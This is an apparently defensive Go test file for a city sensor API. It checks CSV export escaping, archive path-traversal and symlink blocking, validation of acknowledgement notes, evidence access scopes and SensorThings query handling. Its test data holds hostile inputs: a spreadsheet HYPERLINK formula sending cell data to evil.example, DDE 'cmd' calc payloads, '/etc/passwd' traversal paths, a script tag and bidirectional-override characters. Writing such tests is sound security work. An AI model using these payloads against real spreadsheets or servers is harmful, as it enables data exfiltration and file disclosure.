package api_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/paulmach/orb"

	"github.com/kessel-city/kessel"
	"github.com/kessel-city/kessel/alert"
	"github.com/kessel-city/kessel/api"
	"github.com/kessel-city/kessel/evidence"
	"github.com/kessel-city/kessel/influx/influxtest"
)

// TestCSVFormulaCells: text a device (or its owner) chose, such as its
// name, reaches the public CSV export; a cell a spreadsheet would run as a
// formula starts with an apostrophe there, while numbers keep their sign.
func TestCSVFormulaCells(t *testing.T) {
	f := newFixture(t, "")
	for _, tc := range []struct {
		name, want string
	}{
		{`=HYPERLINK("http://evil.example/?"&A1,"Pegel")`, `'=HYPERLINK("http://evil.example/?"&A1,"Pegel")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"Pegel Neckar", "Pegel Neckar"},
		{"-12.5", "-12.5"}, // a number as a name is no formula
	} {
		t.Run(tc.name, func(t *testing.T) {
			if err := f.reg.Put(kessel.Device{ID: "far-1", Kind: "noise", Name: tc.name, Department: tc.name, Location: &orb.Point{-0.125, 51.5}, Visibility: kessel.Public}); err != nil {
				t.Fatal(err)
			}
			rec := f.serve("GET", "/api/v1/devices?format=csv&kind=noise", "")
			rows, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
			if err != nil || rec.Code != 200 {
				t.Fatalf("%d %s: %v", rec.Code, rec.Body, err)
			}
			found := false
			for _, r := range rows[1:] {
				if r[0] != "far-1" {
					continue
				}
				found = true
				if r[2] != tc.want || r[6] != tc.want || r[3] != "-0.125" {
					t.Errorf("name %q department %q lon %q, want %q, %q and -0.125", r[2], r[6], r[3], tc.want, tc.want)
				}
			}
			if !found {
				t.Fatalf("far-1 not in %v", rows)
			}
		})
	}
}

// TestArchiveServesOnlyItsFiles: /archive/ serves the archive folder's
// own files, never a hidden one (.evidence holds records naming people),
// nothing outside the folder by a path or a symbolic link, and answers
// each such request with a 404 problem document.
func TestArchiveServesOnlyItsFiles(t *testing.T) {
	a := archiveDay(t, "air_quality")
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "secret.txt"), []byte("kept-outside"), 0o644); err != nil {
		t.Fatal(err)
	}
	ev := filepath.Join(a.dir, ".evidence", "sensor", "road-1")
	if err := os.MkdirAll(ev, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ev, "2026-11-29.json"), []byte(`{"by":"someone"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	for link, target := range map[string]string{
		"2026/11/29/secret.txt": filepath.Join(outside, "secret.txt"),
		"2026/11/leak":          outside,
		"2026/11/29/ev":         filepath.Join(a.dir, ".evidence"),
	} {
		if err := os.Symlink(target, filepath.Join(a.dir, filepath.FromSlash(link))); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(a.dir, "2026", "11", "29", "SHA256SUMS"), []byte("0123456789"), 0o644); err != nil {
		t.Fatal(err)
	}
	f := newFixtureWith(t, "", func(o *api.Options) { o.Archive = a })
	for _, path := range []string{
		"/archive/.evidence/sensor/road-1/2026-11-29.json",
		"/archive/.evidence/",
		"/archive/2026/../.evidence/sensor/road-1/2026-11-29.json",
		"/archive/2026/11/29/ev/sensor/road-1/2026-11-29.json",
		"/archive/2026/11/29/ev/",
		"/archive/2026/11/29/secret.txt",
		"/archive/2026/11/leak/secret.txt",
		"/archive/2026/11/leak/",
		"/archive/%2e%2e/%2e%2e/etc/passwd",
		"/archive/..%2f..%2fetc/passwd",
		"/archive/2026/11/29/air_quality.csv.gz%00.txt",
	} {
		t.Run(path, func(t *testing.T) {
			resp, body := f.get(t, path)
			if resp.StatusCode != http.StatusNotFound || resp.Header.Get("Content-Type") != "application/problem+json" || strings.Contains(string(body), "kept-outside") || strings.Contains(string(body), "someone") {
				t.Errorf("%d %s: %s", resp.StatusCode, resp.Header.Get("Content-Type"), body)
			}
		})
	}
	if resp, _ := f.get(t, "/archive/2026/11/29/air_quality.csv.gz"); resp.StatusCode != http.StatusOK {
		t.Errorf("the archive's own file: %d", resp.StatusCode)
	}
	if resp, body := f.get(t, "/archive/2026/11/29/SHA256SUMS", "Range", "bytes=2-4"); resp.StatusCode != http.StatusPartialContent || string(body) != "234" {
		t.Errorf("a Range request: %d %q", resp.StatusCode, body)
	}
	if resp, body := f.get(t, "/archive/2026/11/29/"); resp.StatusCode != http.StatusOK || !strings.Contains(string(body), "air_quality.csv.gz") {
		t.Errorf("the day's listing: %d %s", resp.StatusCode, body)
	}
	// Listings name neither hidden entries nor links.
	for path, hidden := range map[string][]string{"/archive/": {".evidence"}, "/archive/2026/11/": {"leak"}, "/archive/2026/11/29/": {"secret.txt", "ev/"}} {
		resp, body := f.get(t, path)
		for _, h := range hidden {
			if resp.StatusCode != http.StatusOK || strings.Contains(string(body), h) {
				t.Errorf("listing of %s: %d, names %s: %s", path, resp.StatusCode, h, body)
			}
		}
	}
}

// TestAckNoteHostile: an acknowledgement's note goes into the evidence
// records handed to insurers and courts. Too long, control characters and
// the Unicode controls that reorder how text reads (Trojan Source: a note
// could show other words than it holds) are refused with a problem
// document; markup and formulas are text, stored as given.
func TestAckNoteHostile(t *testing.T) {
	rule := alert.Rule{ID: "pm", Kind: "air_quality", Field: "pm10", Condition: alert.CondThreshold, Op: ">", Threshold: 30, Visibility: kessel.Public}
	engine, err := alert.New([]alert.Rule{rule}, alert.Options{})
	if err != nil {
		t.Fatal(err)
	}
	f := newFixtureWith(t, "", func(o *api.Options) { o.Alerts, o.Rules = engine, engine })
	engine.Restore([]kessel.Alert{{ID: "pm-air-2", RuleID: "pm", Subject: "air-2", Kind: "air_quality", State: kessel.Firing, Value: 40,
		Visibility: kessel.Public, ActiveAt: f.now.Add(-time.Hour), FiredAt: f.now.Add(-time.Hour)}})
	hdr := []string{"Authorization", "Bearer " + testKeys["alerts:manage"], "Content-Type", "application/json"}
	for _, tc := range []struct {
		name, body string
		status     int
		detail     string // of the problem; or the note stored
	}{
		{"plain", `{"note":"Streufahrzeug 3 ausgerückt 05:40"}`, 200, "Streufahrzeug 3 ausgerückt 05:40"},
		{"markup is text", `{"note":"<script>alert(1)</script>"}`, 200, "<script>alert(1)</script>"},
		{"a formula is text", `{"note":"=HYPERLINK(\"x\")"}`, 200, `=HYPERLINK("x")`},
		{"line breaks", `{"note":"Zeile 1\nZeile 2"}`, 200, "Zeile 1\nZeile 2"},
		{"longest", `{"note":"` + strings.Repeat("ä", kessel.AckNoteMax/2) + `"}`, 200, strings.Repeat("ä", kessel.AckNoteMax/2)},
		{"too long", `{"note":"` + strings.Repeat("x", kessel.AckNoteMax+1) + `"}`, 400, "at most 500 bytes"},
		{"bell", `{"note":"bad\u0007note"}`, 400, "control characters"},
		{"escape sequence", `{"note":"\u001b[2Jweg"}`, 400, "control characters"},
		{"C1 control", `{"note":"a\u0085b"}`, 400, "control characters"},
		{"right-to-left override", `{"note":"Streuen \u202eabgesagt\u202c"}`, 400, "direction"},
		{"isolate", `{"note":"a\u2066b\u2069"}`, 400, "direction"},
		{"note not a string", `{"note":5}`, 400, "note must be a string"},
		{"unknown field", `{"note":"x","by":"someone else"}`, 400, "by"},
		{"not JSON", `note=x`, 400, ""},
		{"body too large", `{"note":"` + strings.Repeat("x", api.DefaultMaxBody) + `"}`, 413, "larger than"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rec := f.serve("POST", "/api/v1/alerts/pm-air-2/ack", tc.body, hdr...)
			if tc.status != 200 {
				if _, detail := problemOf(t, rec, tc.status); !strings.Contains(detail, tc.detail) {
					t.Errorf("detail %q, want it to contain %q", detail, tc.detail)
				}
				return
			}
			var a kessel.Alert
			if rec.Code != 200 || json.Unmarshal(rec.Body.Bytes(), &a) != nil || a.AckNote != tc.detail {
				t.Errorf("%d %s; want note %q", rec.Code, rec.Body, tc.detail)
			}
		})
	}
}

// TestHistoryCSVUnitFormula: a unit a device declares for itself reaches
// every row of its streamed history CSV; one a spreadsheet would run as a
// formula starts with an apostrophe there.
func TestHistoryCSVUnitFormula(t *testing.T) {
	db := influxtest.Start(t)
	f := newFixture(t, db.URL)
	ctx := context.Background()
	if err := f.store.Prepare(ctx); err != nil {
		t.Fatal(err)
	}
	if err := f.reg.Put(kessel.Device{ID: "air-9", Kind: "air_quality", Visibility: kessel.Public, Units: map[string]string{"pm10": "=1+2", "pm25": "ug/m3"}}); err != nil {
		t.Fatal(err)
	}
	var rs []kessel.Reading
	for i := range 3 {
		rs = append(rs, kessel.Reading{Device: "air-9", Kind: "air_quality", Time: f.now.Add(-time.Duration(i+1) * time.Minute), Values: map[string]float64{"pm10": -1.5, "pm25": 2}})
	}
	if err := f.store.WriteReadings(ctx, rs); err != nil {
		t.Fatal(err)
	}
	resp, body := f.get(t, "/api/v1/devices/air-9/readings?from=-1h&format=csv&fields=pm10,pm25")
	rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil || resp.StatusCode != 200 || len(rows) != 4 {
		t.Fatalf("%d %s: %v", resp.StatusCode, body, err)
	}
	for _, r := range rows[1:] {
		if r[1] != "-1.5" || r[2] != "'=1+2" || r[4] != "µg/m³" {
			t.Errorf("row %q, want pm10 -1.5 in '=1+2 and pm25 in µg/m³", r)
		}
	}
}

// fakeEvidence keeps no records; it names subjects only.
type fakeEvidence []evidence.Subject

func (f fakeEvidence) Subjects() []evidence.Subject { return f }
func (f fakeEvidence) Subject(typ, id string) (evidence.Subject, error) {
	for _, s := range f {
		if s.Type == typ && s.ID == id {
			return s, nil
		}
	}
	return evidence.Subject{}, kessel.Errorf(kessel.ENOTFOUND, "no evidence is kept for %s %q", typ, id)
}
func (fakeEvidence) Build(context.Context, evidence.Subject, evidence.Day) ([]evidence.Record, error) {
	return nil, nil
}
func (fakeEvidence) Records(context.Context, evidence.Subject, evidence.Day, evidence.Day) ([]evidence.Record, evidence.Result, error) {
	return nil, evidence.Result{OK: true}, nil
}

// TestEvidenceScopes: a key with alerts:manage alone reads the evidence
// of public sensors only; a subject with an internal sensor, or with one
// the registry does not know (removed, or not announced yet: its
// visibility is unknown), needs data:internal as well (admin has it).
func TestEvidenceScopes(t *testing.T) {
	subs := fakeEvidence{
		{Type: evidence.Route, ID: "public", Devices: []string{"air-1"}},
		{Type: evidence.Route, ID: "internal", Devices: []string{"air-1", "secret-1"}},
		{Type: evidence.Route, ID: "unknown", Devices: []string{"gone-1"}},
		{Type: evidence.Sensor, ID: "secret-1", Devices: []string{"secret-1"}},
	}
	f := newFixtureWith(t, "", func(o *api.Options) { o.Evidence = subs })
	for _, tc := range []struct {
		key  string
		seen string
	}{
		{"alerts:manage", "route:public"},
		{"admin", "route:public route:internal route:unknown sensor:secret-1"},
	} {
		t.Run(tc.key, func(t *testing.T) {
			auth := []string{"Authorization", "Bearer " + testKeys[tc.key]}
			var list struct{ Items []evidence.Subject }
			if rec := f.serve("GET", "/api/v1/evidence", "", auth...); rec.Code != 200 || json.Unmarshal(rec.Body.Bytes(), &list) != nil {
				t.Fatalf("%d %s", rec.Code, rec.Body)
			}
			var keys []string
			for _, s := range list.Items {
				keys = append(keys, s.Key())
			}
			if strings.Join(keys, " ") != tc.seen {
				t.Errorf("subjects %v, want %s", keys, tc.seen)
			}
			for _, s := range subs {
				path := "/api/v1/evidence/" + map[string]string{evidence.Route: "routes", evidence.Sensor: "sensors"}[s.Type] + "/" + s.ID
				for _, p := range []string{path, path + "/verify", path + "?format=csv"} {
					rec := f.serve("GET", p, "", auth...)
					if want := strings.Contains(tc.seen, s.Key()); (rec.Code == 200) != want || !want && rec.Code != 404 {
						t.Errorf("GET %s: %d, want it readable: %v (else 404)", p, rec.Code, want)
					}
				}
			}
		})
	}
}

// TestDeviceLocationIncomplete: a device's location needs both lon and
// lat; a missing or null one is a 400 (it was stored as 0, putting the
// device off the coast of Africa), as it is on the meta topic.
func TestDeviceLocationIncomplete(t *testing.T) {
	f := newFixture(t, "")
	hdr := []string{"Authorization", "Bearer " + testKeys["admin"], "Content-Type", "application/json"}
	for i, tc := range []struct {
		location string
		status   int
	}{
		{`{}`, 400},
		{`{"lon":9.18}`, 400},
		{`{"lat":48.78}`, 400},
		{`{"lon":null,"lat":48.78}`, 400},
		{`{"lon":9.18,"lat":null}`, 400},
		{`{"lon":0,"lat":0}`, 201}, // given: the operator means it
		{`{"lon":9.18,"lat":48.78}`, 201},
	} {
		t.Run(tc.location, func(t *testing.T) {
			id := "loc-" + strconv.Itoa(i)
			rec := f.serve("POST", "/api/v1/devices", `{"id":"`+id+`","kind":"noise","location":`+tc.location+`}`, hdr...)
			if tc.status == 201 {
				if rec.Code != 201 {
					t.Fatalf("%d %s", rec.Code, rec.Body)
				}
				return
			}
			if _, detail := problemOf(t, rec, tc.status); !strings.Contains(detail, "lon and lat") {
				t.Errorf("detail %q", detail)
			}
			if _, _, ok := f.reg.Get(id); ok {
				t.Errorf("device %s stored", id)
			}
		})
	}
}

// TestSTAHostileIDsAndTimes: an Observation's id names one instant
// exactly (another id, such as -1 which InfluxDB read as an open range, is
// a 404, not some other observation), and phenomenonTime bounds beyond
// what the store holds mean "from the first" or "to the last" rather than
// a failed query; a range before 1970 holds nothing (InfluxDB reads a
// bound at or before the epoch as none and answered every reading).
func TestSTAHostileIDsAndTimes(t *testing.T) {
	db := influxtest.Start(t)
	f := newFixture(t, db.URL)
	ctx := context.Background()
	if err := f.store.Prepare(ctx); err != nil {
		t.Fatal(err)
	}
	var rs []kessel.Reading
	for i := range 10 {
		rs = append(rs, kessel.Reading{Device: "air-1", Kind: "air_quality", Time: f.now.Add(-time.Duration(i+1) * time.Minute), Values: map[string]float64{"pm10": float64(i)}})
	}
	if err := f.reg.Put(kessel.Device{ID: "bike-1", Kind: "air_quality", Visibility: kessel.Public}); err != nil {
		t.Fatal(err)
	}
	bike := kessel.Reading{Device: "bike-1", Kind: "air_quality", Time: f.now.Add(-5 * time.Minute), Values: map[string]float64{"pm10": 3}, Location: &orb.Point{9.172, 48.771}}
	f.reg.Observe([]kessel.Reading{bike})
	if err := f.store.WriteReadings(ctx, append(rs, bike)); err != nil {
		t.Fatal(err)
	}
	at := strconv.FormatInt(rs[0].Time.UnixNano(), 10)
	bikeAt := strconv.FormatInt(bike.Time.UnixNano(), 10)
	e := func(filter string) string { return strings.ReplaceAll(filter, " ", "%20") }
	for _, tc := range []struct {
		path   string
		status int
		count  int // of value, for a collection; -1 (air-1's) or -2 (bike-1's) for an entity
	}{
		{"/sta/v1.1/Observations('air-1:pm10:" + at + "')", 200, -1},
		{"/sta/v1.1/Observations('air-1:pm10:-1')", 404, 0},
		{"/sta/v1.1/Observations('air-1:pm10:0')", 404, 0},
		{"/sta/v1.1/Observations('air-1:pm10:+" + at + "')", 404, 0},
		{"/sta/v1.1/Observations('air-1:pm10:0" + at + "')", 404, 0},
		{"/sta/v1.1/HistoricalLocations('bike-1:" + bikeAt + "')", 200, -2},
		{"/sta/v1.1/HistoricalLocations('bike-1:-1')", 404, 0},
		{"/sta/v1.1/Locations('bike-1:-1')", 404, 0},
		{"/sta/v1.1/FeaturesOfInterest('bike-1:+" + bikeAt + "')", 404, 0},
		{"/sta/v1.1/Datastreams('air-1:pm10')/Observations?$filter=" + e("phenomenonTime gt 1000-01-01T00:00:00Z and result gt 3"), 200, 6},
		{"/sta/v1.1/Datastreams('air-1:pm10')/Observations?$filter=" + e("phenomenonTime gt 1000-01-01T00:00:00Z"), 200, 10},
		{"/sta/v1.1/Datastreams('air-1:pm10')/Observations?$filter=" + e("phenomenonTime lt 9999-01-01T00:00:00Z and phenomenonTime gt 2026-11-23T07:00:00Z"), 200, 10},
		{"/sta/v1.1/Datastreams('air-1:pm10')/Observations?$filter=" + e("phenomenonTime lt 1970-01-01T00:00:00Z"), 200, 0},
		{"/sta/v1.1/Datastreams('air-1:pm10')/Observations?$filter=" + e("phenomenonTime lt 1970-01-01T00:00:00Z and result gt 1"), 200, 0},
		{"/sta/v1.1/Observations?$filter=" + e("phenomenonTime gt 1969-12-31T00:00:00Z and phenomenonTime lt 1970-01-01T00:00:00Z"), 200, 0},
		{"/sta/v1.1/Observations?$count=true&$filter=" + e("phenomenonTime gt 1600-01-01T00:00:00Z and phenomenonTime lt 9000-01-01T00:00:00Z"), 200, 11},
	} {
		t.Run(tc.path, func(t *testing.T) {
			resp, body := f.get(t, tc.path)
			if resp.StatusCode != tc.status {
				t.Fatalf("%d, want %d: %.300s", resp.StatusCode, tc.status, body)
			}
			var doc struct {
				ID    string `json:"@iot.id"`
				Value []any  `json:"value"`
			}
			if err := json.Unmarshal(body, &doc); err != nil {
				t.Fatal(err)
			}
			switch {
			case tc.status != 200:
			case tc.count == -2 && doc.ID != "bike-1:"+bikeAt:
				t.Errorf("@iot.id %q, want the one asked for", doc.ID)
			case tc.count == -1 && doc.ID != "air-1:pm10:"+at:
				t.Errorf("@iot.id %q, want the one asked for", doc.ID)
			case tc.count >= 0 && len(doc.Value) != tc.count:
				t.Errorf("%d observations, want %d: %.300s", len(doc.Value), tc.count, body)
			}
		})
	}
}
